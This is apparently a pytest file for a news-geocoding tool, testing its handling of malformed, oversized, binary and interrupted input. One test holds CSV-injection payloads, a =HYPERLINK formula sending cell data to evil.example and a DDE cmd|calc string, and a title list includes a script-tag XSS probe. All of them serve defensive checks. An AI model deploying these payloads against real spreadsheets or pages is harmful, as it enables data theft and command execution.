"""Broken and hostile input as scraped archives hold it: every problem is one line naming the file (and line) with
what to do, the other articles still go through, the exit status says whether all, some or none were processed,
outputs are never half-written, and nothing is a traceback."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import warnings
from functools import partial
from pathlib import Path

import pytest
from PIL import Image

import geomap
from geomap.cli import bundled_examples
from geomap.export import to_csv
from geomap.readers import MAX_ARTICLE_BYTES, MAX_RECORD_BYTES, SHOWN_PER_FILE, Report, read_articles
from geomap.static_map import static_map

LONDON = "Thousands of protesters rallied in London on Saturday against the war."
RAFAH = "Israeli airstrikes on Rafah killed five people on Monday."
BEKASI = "Banjir merendam ratusan rumah di Bekasi, Jawa Barat, pada Sabtu."


def run(*args, cwd=None, stdin=None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "geomap", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, input=stdin, timeout=300)


def read(*paths) -> tuple[list, list[str], Report]:
    """The articles read from the paths, the lines said about them, and the report."""
    said: list[str] = []
    report = Report(say=said.append)
    articles = list(read_articles([str(p) for p in paths], report))
    return articles, said, report


# -- one kind of problem at a time, through the reader --------------------------------------------------------------

def test_text_files_in_any_old_encoding_are_read(tmp_path):
    (tmp_path / "utf8.txt").write_text("Café in Bekasi.", encoding="utf-8")
    (tmp_path / "bom.txt").write_bytes("\ufeffCafé in Bekasi.".encode("utf-8"))
    (tmp_path / "cp1252.txt").write_bytes("Café “quoted” in Bekasi.".encode("cp1252"))
    (tmp_path / "latin1.txt").write_bytes(b"Caf\xe9 \x81 in Bekasi.")  # 0x81 is no Windows-1252 character
    (tmp_path / "utf16.txt").write_bytes("Café in Bekasi.".encode("utf-16"))
    articles, said, report = read(*(tmp_path / n for n in ("utf8.txt", "bom.txt", "cp1252.txt", "latin1.txt",
                                                            "utf16.txt")))
    assert [a.text for a in articles] == ["Café in Bekasi.", "Café in Bekasi.", "Café “quoted” in Bekasi.",
                                          "Café \x81 in Bekasi.", "Café in Bekasi."]
    assert said == [
        f"geomap: {tmp_path / 'cp1252.txt'}: warning: not UTF-8, read as Windows-1252; save it as UTF-8 if letters "
        "look wrong",
        f"geomap: {tmp_path / 'latin1.txt'}: warning: not UTF-8, read as Latin-1; save it as UTF-8 if letters look "
        "wrong"]
    assert report.skipped == {} and [a.name for a in articles] == ["utf8", "bom", "cp1252", "latin1", "utf16"]


@pytest.mark.parametrize("content, reason, says", [
    (b"", "empty", "is empty; nothing to map"),
    (b" \n\t\r\n", "empty", "is empty; nothing to map"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "binary", "looks like a binary file"),
    (bytes(range(1, 32)) * 40, "binary", "looks like a binary file"),
    (b"x" * (MAX_ARTICLE_BYTES + 1), "too large", "0.2 MB, larger than an article may be (200 KB); split it into "
                                                  "articles, one file each or one per line of a .jsonl"),
])
def test_a_text_file_that_is_no_article_is_skipped_with_a_reason(tmp_path, content, reason, says):
    (tmp_path / "a.txt").write_bytes(content)
    articles, said, report = read(tmp_path / "a.txt")
    assert articles == [] and report.skipped == {reason: 1}
    assert len(said) == 1 and said[0].startswith(f"geomap: {tmp_path / 'a.txt'}: ") and says in said[0]


def test_a_gigantic_file_is_refused_without_being_read_whole(tmp_path):
    path = tmp_path / "dump.txt"
    with path.open("wb") as f:
        f.truncate(50_000_000)  # sparse: 50 MB that take no disk
    articles, said, _ = read(path)
    assert articles == [] and said == [f"geomap: {path}: 50.0 MB, larger than an article may be (200 KB); split it "
                                       "into articles, one file each or one per line of a .jsonl"]


def test_folders_are_read_in_name_order_with_subfolders_and_without_hidden_files(tmp_path):
    for name in ("b.txt", "a.md", "sub/c.txt", ".hidden.txt", ".git/d.txt", "notes.pdf", "sub/e.jsonl"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(json.dumps({"text": name}) if name.endswith(".jsonl") else name)
    articles, said, _ = read(tmp_path)
    assert [a.text for a in articles] == ["a.md", "b.txt", "sub/c.txt", "sub/e.jsonl"] and said == []
    assert [(a.file, a.line) for a in articles][-1] == (str(tmp_path / "sub" / "e.jsonl"), 1)


def test_jsonl_reports_each_bad_line_and_reads_the_others(tmp_path):
    path = tmp_path / "corpus.jsonl"
    path.write_text("\n".join([
        json.dumps({"text": LONDON, "title": "London", "date": "2024-10-19", "url": "https://example.org/a",
                    "source": "Example"}),
        '{"text": "unfinished',
        "",
        '["a list"]',
        json.dumps({"title": "no text"}),
        json.dumps({"text": 42}),
        json.dumps({"body": RAFAH, "date": "2024-10-21T10:00:00+03:00"}),
        json.dumps({"content": BEKASI, "date": "Sabtu"}),
        json.dumps({"text": "   "}),
        json.dumps({"text": "Half a character \ud800 in Rafah.", "title": "\udcff"}),
    ]) + "\n", encoding="utf-8")
    articles, said, report = read(path)
    assert [(a.line, a.name, a.date and a.date.isoformat()) for a in articles] == [
        (1, "corpus:1", "2024-10-19"), (7, "corpus:7", "2024-10-21"), (8, "corpus:8", None), (10, "corpus:10", None)]
    assert (articles[0].title, articles[0].url, articles[0].source) == ("London", "https://example.org/a", "Example")
    assert articles[3].text == "Half a character \ufffd in Rafah." and articles[3].title == "\ufffd"
    assert said == [f"geomap: {path}:{line}: {message}" for line, message in [
        (2, "not JSON (unterminated string starting at column 10); each line must be one JSON object"),
        (4, 'not a JSON object; each line must be one, {"text": ...}'),
        (5, "no text: put the article in a field text, body or content, as a string"),
        (6, "no text: put the article in a field text, body or content, as a string"),
        (8, "warning: date 'Sabtu' is not a date like 2024-10-22; the article is read without it"),
        (9, "the text is empty; nothing to map"),
    ]]
    assert report.skipped == {"not JSON": 2, "no text": 2, "empty": 1}


def test_an_overlong_jsonl_line_is_read_past(tmp_path):
    path = tmp_path / "corpus.jsonl"
    with path.open("w", encoding="utf-8") as f:
        f.write(json.dumps({"text": LONDON}) + "\n")
        f.write('{"text": "' + "Jakarta " * (MAX_RECORD_BYTES // 8 + 10) + '"}\n')  # longer than any record may be
        f.write(json.dumps({"text": "Jakarta " * (MAX_ARTICLE_BYTES // 8 + 1)}) + "\n")  # a record, too large a text
        f.write(json.dumps({"text": RAFAH}) + "\n")
    articles, said, _ = read(path)
    assert [a.text for a in articles] == [LONDON, RAFAH]
    assert said == [f"geomap: {path}:{n}: larger than an article may be (200 KB); split it into articles, one file "
                    "each or one per line of a .jsonl" for n in (2, 3)]


def test_csv_needs_a_text_column_and_reports_broken_rows(tmp_path):
    (tmp_path / "none.csv").write_text("a,b\n1,2\n")
    (tmp_path / "blank.csv").write_text("")
    path = tmp_path / "corpus.csv"
    path.write_bytes("\r\n".join([
        "Title,Body,Date,URL",
        f'London,"{LONDON}",2024-10-19,https://example.org/a',
        f"Bekasi,{BEKASI},2024-10-19",
        f'"Two lines","{BEKASI}\nSecond line, still the body",2024-10-19,',
        'Quote,"a"b,2024-10-19,',
        "Caf\xe9,Protesters rallied in Paris.,,".encode("cp1252").decode("latin-1"),
        'Open,"never closed,2024-10-19,',
        "After,it is all the open field,,",
    ]).encode("latin-1"))
    articles, said, report = read(tmp_path / "none.csv", tmp_path / "blank.csv", path)
    assert [(a.line, a.title, a.url) for a in articles] == [(2, "London", "https://example.org/a"),
                                                            (4, "Two lines", ""), (7, "Café", "")]
    assert articles[1].text == f"{BEKASI}\nSecond line, still the body"
    assert said == [
        f"geomap: {tmp_path / 'none.csv'}: no text, body or content column in the header row (it has: a, b); name "
        "the articles' column text",
        f"geomap: {tmp_path / 'blank.csv'}: no text, body or content column in the header row (it has: nothing); "
        "name the articles' column text",
        f"geomap: {path}:3: 5 fields where the header has 4; quote fields that hold commas",
        f"geomap: {path}:6: broken row (',' expected after '\"'); check its quotes",
        f"geomap: {path}: warning: not UTF-8 (line 7), read as Windows-1252; save it as UTF-8 if letters look wrong",
        f"geomap: {path}:8: broken row (unexpected end of data); check its quotes",
    ]
    assert report.skipped == {"no text column": 2, "broken row": 3}


def test_a_file_with_many_problems_tells_the_first_few_and_counts_all(tmp_path):
    path = tmp_path / "corpus.jsonl"
    path.write_text("not json\n" * 50 + json.dumps({"text": LONDON}) + "\n")
    articles, said, report = read(path)
    assert len(articles) == 1 and report.skipped == {"not JSON": 50}
    assert len(said) == SHOWN_PER_FILE + 1
    assert said[-1] == f"geomap: {path}: more problems; they are counted below, not shown"
    assert report.summary() == "50 articles read: 0 processed, 50 skipped (50 not JSON); 0 events written"


def test_binary_or_utf16_record_files_are_skipped_whole(tmp_path):
    (tmp_path / "a.jsonl").write_bytes(b"\x00\x01" * 100)
    (tmp_path / "b.csv").write_bytes("text\nRafah\n".encode("utf-16"))
    articles, said, _ = read(tmp_path / "a.jsonl", tmp_path / "b.csv")
    assert articles == []
    assert said == [f"geomap: {tmp_path / 'a.jsonl'}: looks like a binary file, not text; give text articles (.txt, "
                    ".md, .jsonl, .csv)", f"geomap: {tmp_path / 'b.csv'}: is UTF-16; save it as UTF-8"]


def test_an_unreadable_file_is_skipped(tmp_path):
    if os.geteuid() == 0:
        pytest.skip("root reads every file")
    path = tmp_path / "secret.txt"
    path.write_text(LONDON)
    path.chmod(0)
    articles, said, _ = read(path)
    assert articles == [] and said == [f"geomap: {path}: permission denied; check it is a file you may read"]


# -- the command on a messy archive ---------------------------------------------------------------------------------

@pytest.fixture
def archive(tmp_path) -> Path:
    """A scraped archive: three good articles among every kind of bad file and line."""
    folder = tmp_path / "archive"
    folder.mkdir()
    (folder / "01_london.txt").write_text(LONDON, encoding="utf-8")
    (folder / "02_empty.txt").write_text("")
    (folder / "03_binary.txt").write_bytes(b"\x7fELF\x00\x00\x01\x02" * 100)
    (folder / "04_bekasi_cp1252.txt").write_bytes(f"{BEKASI} Warga di Bekasi minum kopi di café.".encode("cp1252"))
    (folder / "05_german.txt").write_text("Dies ist ein kurzer deutscher Satz über gar nichts Besonderes.")
    (folder / "06_huge.txt").write_bytes(b"Jakarta " * 1_000_000)
    (folder / "07_corpus.jsonl").write_text(json.dumps({"text": RAFAH, "date": "2024-10-21"}) + "\n{oops\n")
    (folder / "08_table.csv").write_text("title,words\nx,y\n")
    return folder


def test_a_messy_archive_maps_what_it_can_and_says_what_it_could_not(archive, tmp_path):
    r = run("map", archive, "-o", tmp_path / "out" / "week.html")
    assert r.returncode == 3, r.stderr
    assert r.stderr.splitlines() == [f"geomap: {archive / name}{message}" for name, message in [
        ("02_empty.txt", ": is empty; nothing to map"),
        ("03_binary.txt", ": looks like a binary file, not text; give text articles (.txt, .md, .jsonl, .csv)"),
        ("04_bekasi_cp1252.txt", ": warning: not UTF-8, read as Windows-1252; save it as UTF-8 if letters look "
                                 "wrong"),
        ("05_german.txt", ": the text is in none of the supported languages (id, en); if it is one of them, say which "
                          "with --lang"),
        ("06_huge.txt", ": 8.0 MB, larger than an article may be (200 KB); split it into articles, one file each or "
                        "one per line of a .jsonl"),
        ("07_corpus.jsonl", ":2: not JSON (expecting property name enclosed in double quotes at column 2); each "
                            "line must be one JSON object"),
        ("08_table.csv", ": no text, body or content column in the header row (it has: title, words); name the "
                         "articles' column text"),
    ]] + ["geomap: 9 articles read: 3 processed, 6 skipped (1 empty, 1 binary, 1 not in a language geomap reads, "
          "1 too large, 1 not JSON, 1 no text column); 3 events written"]
    features = json.loads((tmp_path / "out" / "week.geojson").read_text(encoding="utf-8"))["features"]
    assert sorted((f["properties"]["document"], f["properties"]["location"]) for f in features) == [
        ("01_london", "London"), ("04_bekasi_cp1252", "Bekasi"), ("07_corpus:1", "Rafah")]
    assert "Traceback" not in r.stderr


def test_exit_status_says_whether_all_some_or_none_were_processed(tmp_path):
    good, bad = tmp_path / "good.txt", tmp_path / "bad.txt"
    good.write_text(LONDON)
    bad.write_text("")
    output = tmp_path / "map.html"
    assert run("map", good, "-o", output).returncode == 0
    assert run("map", good, bad, "-o", output).returncode == 3
    previous = {name: (tmp_path / name).read_bytes() for name in ("map.html", "map.geojson", "map.csv")}
    r = run("map", bad, tmp_path / "missing.txt", "-o", output)
    assert r.returncode == 1
    assert r.stderr.splitlines()[-2:] == [
        "geomap: no article to map; no file was written",
        "geomap: 2 articles read: 0 processed, 2 skipped (1 empty, 1 no such file); 0 events written"]
    assert {name: (tmp_path / name).read_bytes() for name in previous} == previous  # an empty map replaces nothing
    assert sorted(os.listdir(tmp_path)) == ["bad.txt", "events.sqlite", "good.txt", "map.csv", "map.geojson",
                                            "map.html"]  # the event store beside the map


def test_text_that_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(tmp_path):
    # A cell starting with =, +, -, @, a tab or a carriage return is a formula to Excel and LibreOffice (CSV injection):
    # such text gets a leading ', as OWASP advises; numbers stay numbers, and the GeoJSON keeps the text as it is.
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    records = [{"text": f"{formula} {RAFAH}", "source": "@SUM(1+1)*cmd|' /C calc'!A0", "url": "+1 555 0100"},
               {"text": f"-{BEKASI}", "source": "-2+3", "url": "https://example.org/bekasi"}]
    path = tmp_path / "hostile.jsonl"
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
    r = run("map", path, "-o", tmp_path / "out" / "map.html")
    assert r.returncode == 0, r.stderr
    with open(tmp_path / "out" / "map.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    rafah = next(row for row in rows if row["location"] == "Rafah")
    bekasi = next(row for row in rows if row["location"] == "Bekasi")
    assert rafah["notes"] == f"'{formula} {RAFAH}"
    assert (rafah["source"], rafah["url"]) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "'+1 555 0100")
    assert bekasi["notes"] == f"'-{BEKASI}" and bekasi["source"] == "'-2+3"
    assert float(bekasi["latitude"]) < 0 and bekasi["latitude"].startswith("-6.")  # a number, as it was
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) < 0, cell
    features = json.loads((tmp_path / "out" / "map.geojson").read_text(encoding="utf-8"))["features"]
    raw = next(f["properties"] for f in features if f["properties"]["location"] == "Rafah")
    assert (raw["notes"], raw["source"], raw["url"]) == (f"{formula} {RAFAH}", records[0]["source"], "+1 555 0100")
    # A tab or a carriage return first, which the readers strip from a record's fields, from the library.
    row = next(csv.DictReader(io.StringIO(to_csv(geomap.parse(RAFAH, source="\t=1+2", url="\r@x")), newline="")))
    assert (row["source"], row["url"]) == ("'\t=1+2", "'\r@x")


def test_the_date_option_dates_articles_that_carry_no_date_of_their_own(tmp_path):
    path = tmp_path / "corpus.jsonl"
    path.write_text(json.dumps({"text": RAFAH, "date": "2024-10-21"}) + "\n" + json.dumps({"text": RAFAH}) + "\n")
    r = run("extract", path, "--date", "2024-11-04", "--format", "json")
    assert r.returncode == 0, r.stderr
    assert [event["event_date"] for event in json.loads(r.stdout)] == ["2024-10-21", "2024-11-04"]


def test_a_file_name_in_no_encoding_reaches_the_outputs_readable(tmp_path):
    folder = os.fsencode(tmp_path)
    with open(os.path.join(folder, b"caf\xe9.txt"), "w", encoding="utf-8") as f:
        f.write(LONDON)
    r = subprocess.run([sys.executable, "-m", "geomap", "map", b"caf\xe9.txt"], cwd=tmp_path, capture_output=True,
                       timeout=300)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[0] == b"map: output/caf\\udce9.html"
    features = json.loads((tmp_path / "output" / os.fsdecode(b"caf\xe9.geojson")).read_text())["features"]
    assert features[0]["properties"]["document"] == "caf\ufffd"


def test_an_output_that_cannot_be_written_is_one_line_and_changes_nothing(tmp_path):
    """The PNG cannot be written: the map, GeoJSON and CSV written before it in the run stay as they were."""
    (tmp_path / "london.txt").write_text(LONDON)
    (tmp_path / "rafah.txt").write_text(RAFAH)
    (tmp_path / "blocked").write_text("a file where a folder should be")
    output = tmp_path / "out" / "map.html"
    assert run("map", tmp_path / "london.txt", "-o", output).returncode == 0
    outputs = ["map.html", "map.geojson", "map.csv"]  # the event store beside them keeps what was processed
    before = {name: (tmp_path / "out" / name).read_bytes() for name in outputs}
    r = run("map", tmp_path / "rafah.txt", "-o", output, "--png", tmp_path / "blocked" / "figure.png")
    assert r.returncode == 1
    assert r.stderr.splitlines() == [
        f"geomap: {tmp_path / 'blocked' / 'figure.png'}: cannot write it ({tmp_path / 'blocked'} is a file, not a "
        "folder); no output file was changed; fix that or write elsewhere with -o",
        "geomap: 1 article read: 1 processed, 0 skipped; 0 events written"]
    assert {name: (tmp_path / "out" / name).read_bytes() for name in outputs} == before
    assert sorted(os.listdir(tmp_path / "out")) == sorted(outputs + ["events.sqlite"])


def test_a_closed_pipe_stops_quietly(seed_text):
    process = subprocess.Popen([sys.executable, "-m", "geomap", "extract", "-"], stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    process.stdout.close()  # as `| head -0` does
    _, stderr = process.communicate(seed_text.encode("utf-8"), timeout=300)
    assert process.returncode == 141
    assert stderr.decode() == "geomap: 1 article read: 1 processed, 0 skipped; 0 events written\n"


@pytest.mark.parametrize("signal_number, status, word", [(signal.SIGINT, 130, "interrupted"),
                                                         (signal.SIGTERM, 143, "terminated")])
def test_an_interrupted_run_leaves_every_output_whole(tmp_path, signal_number, status, word):
    """Ctrl-C or kill at moments through a run, the last ones near its end where it writes: the previous map or the
    new one, never half of one, and no temporary files; one line and a report, never a traceback."""
    corpus = tmp_path / "corpus.jsonl"
    texts = [path.read_text(encoding="utf-8") for path in bundled_examples()]
    corpus.write_text("".join(json.dumps({"text": texts[n % 2]}) + "\n" for n in range(600)), encoding="utf-8")
    command = [sys.executable, "-m", "geomap", "map", str(corpus), "--png", "-o"]
    started = time.monotonic()
    whole = subprocess.run([*command, str(tmp_path / "timing" / "map.html")], check=True, capture_output=True,
                           text=True, timeout=300)
    took = time.monotonic() - started
    report = whole.stderr.splitlines()[-1]  # "geomap: 600 articles read: 600 processed, 0 skipped; N events written"
    (tmp_path / "one.txt").write_text(LONDON)
    output = tmp_path / "out" / "map.html"
    assert run("map", tmp_path / "one.txt", "-o", output, "--png").returncode == 0
    # the outputs; the event store beside them keeps what each interrupted run finished (tests/test_store.py)
    before = {name: (tmp_path / "out" / name).read_bytes() for name in os.listdir(tmp_path / "out")
              if name != "events.sqlite"}
    for fraction in (0.3, 0.6, 0.9, 0.97):
        process = subprocess.Popen([*command, str(output)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        time.sleep(took * fraction)
        process.send_signal(signal_number)
        _, stderr = process.communicate(timeout=300)
        assert "Traceback" not in stderr
        if process.returncode == status:  # "N articles read" or "1 article read"
            assert stderr.splitlines()[-2] == f"geomap: {word}; every output file is whole, as it was or as new"
            assert stderr.splitlines()[-1].startswith("geomap: ") and re.search(r" articles? read: ", stderr)
        else:  # the run was over before the signal, or was ending: Python then dies of it, quietly
            assert process.returncode in (0, -signal_number), stderr
            assert re.sub(r" \([\d,]+ already in the store\)", "", stderr.splitlines()[-1]) == report
        assert sorted(os.listdir(tmp_path / "out")) == sorted([*before, "events.sqlite"])
        changed = {name for name, old in before.items() if (tmp_path / "out" / name).read_bytes() != old}
        assert changed in (set(), set(before)), "the map, its tables and its image change together"
        if changed:  # the new versions, complete
            features = json.loads((tmp_path / "out" / "map.geojson").read_bytes())["features"]
            assert len({f["properties"]["document"] for f in features}) == 600
            assert (tmp_path / "out" / "map.html").read_bytes().rstrip().endswith(b"</html>")
            Image.open(tmp_path / "out" / "map.png").verify()
            for name in before:
                (tmp_path / "out" / name).write_bytes(before[name])


def test_an_interrupted_extract_writes_nothing_half(tmp_path):
    """extract writes its events as the articles are processed, into a temporary file: Ctrl-C halfway leaves the -o
    file as it was and prints nothing on standard output, not the events so far."""
    corpus = tmp_path / "corpus.jsonl"
    texts = [path.read_text(encoding="utf-8") for path in bundled_examples()]
    corpus.write_text("".join(json.dumps({"text": texts[n % 2]}) + "\n" for n in range(1200)), encoding="utf-8")
    output = tmp_path / "out" / "events.csv"
    assert run("extract", corpus, "--format", "csv", "-o", output).returncode == 0
    whole = output.read_bytes()
    assert whole.count(b"\r\n") > 1200
    for args in (["-o", output], []):
        process = subprocess.Popen([sys.executable, "-m", "geomap", "extract", str(corpus), "--format", "csv", *args],
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        # interrupted once it has written events (into the -o file's temporary file, or its spool), not at a time
        # that a loaded machine may reach before the run has begun or after it has ended
        wait_until_written(process, partial((tmp_path / "out").glob, ".events.csv.*.tmp") if args else
                           partial(_deleted_files, process.pid))
        process.send_signal(signal.SIGINT)
        stdout, stderr = process.communicate(timeout=300)
        assert process.returncode == 130, stderr
        assert stdout == b""
        assert output.read_bytes() == whole
        assert os.listdir(tmp_path / "out") == ["events.csv"]


def wait_until_written(process: subprocess.Popen, files) -> None:
    """Until one of the paths `files()` gives holds data, while the process runs."""
    deadline = time.monotonic() + 120
    while True:
        try:
            if any(os.path.getsize(path) for path in files()):
                return
        except FileNotFoundError:
            pass  # a file closed while it was looked at
        assert process.poll() is None, "the run ended before it wrote anything"
        assert time.monotonic() < deadline
        time.sleep(0.005)


def _deleted_files(pid: int) -> list[str]:
    """The files a process holds open that have no name any more (a spool: tempfile.TemporaryFile)."""
    folder = f"/proc/{pid}/fd"
    held = []
    for fd in os.listdir(folder):
        try:
            if os.readlink(f"{folder}/{fd}").endswith("(deleted)"):
                held.append(f"{folder}/{fd}")
        except FileNotFoundError:
            pass
    return held


def test_ctrl_c_while_the_png_is_drawn_acts_once_it_is_drawn(tmp_path):
    """matplotlib cut midway can fail with an error of its own (a TypeError from its legend, seen once in the test
    above): Ctrl-C waits until the image is drawn and written whole, then interrupts."""
    from matplotlib.artist import Artist

    drawn = []

    class Interrupting(Artist):  # a real Ctrl-C, sent from inside matplotlib's drawing
        def draw(self, renderer):
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(0.2)  # a signal not held back raises KeyboardInterrupt here
            drawn.append("interrupting")

    class DrawnAfter(Artist):
        zorder = 100

        def draw(self, renderer):
            drawn.append("after")

    picture = static_map(geomap.parse(LONDON, lang="en"))
    picture.figure.add_artist(Interrupting())
    picture.figure.add_artist(DrawnAfter())
    with pytest.raises(KeyboardInterrupt):
        picture.save(tmp_path / "map.png")
    assert drawn == ["interrupting", "after"]
    Image.open(tmp_path / "map.png").verify()
    assert os.listdir(tmp_path) == ["map.png"]


HOSTILE_TITLES = ["Fuel at $5, then $\\alpha{$ a litre", "a $\\frac$ b $^$",
                  "Emoji 😀, a bell \x07, \u202eright to left", "中文 ﺍﻟﻘﺪﺱ עברית", "x" * 5000,
                  "<script>alert(1)</script>"]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_the_png_draws_any_title_as_text(tmp_path, title):
    """matplotlib reads "$...$" as TeX, and fails on a broken formula; it warns of each letter its font lacks."""
    doc = geomap.parse(LONDON, lang="en", title=title, source=title)
    with warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        static_map([doc, geomap.parse(RAFAH, lang="en", title=title)]).save(tmp_path / "map.png")
    assert warned == []
    with Image.open(tmp_path / "map.png") as image:
        assert image.size == (1600, 1000)


def test_the_map_command_draws_a_hostile_title_without_a_word_on_stderr(tmp_path):
    (tmp_path / "a.txt").write_text(LONDON)
    r = run("map", tmp_path / "a.txt", "--png", "--title", HOSTILE_TITLES[0] + HOSTILE_TITLES[2], cwd=tmp_path)
    assert r.returncode == 0 and r.stderr == "geomap: 1 article read: 1 processed, 0 skipped; 1 event written\n"
    Image.open(tmp_path / "output" / "a.png").verify()
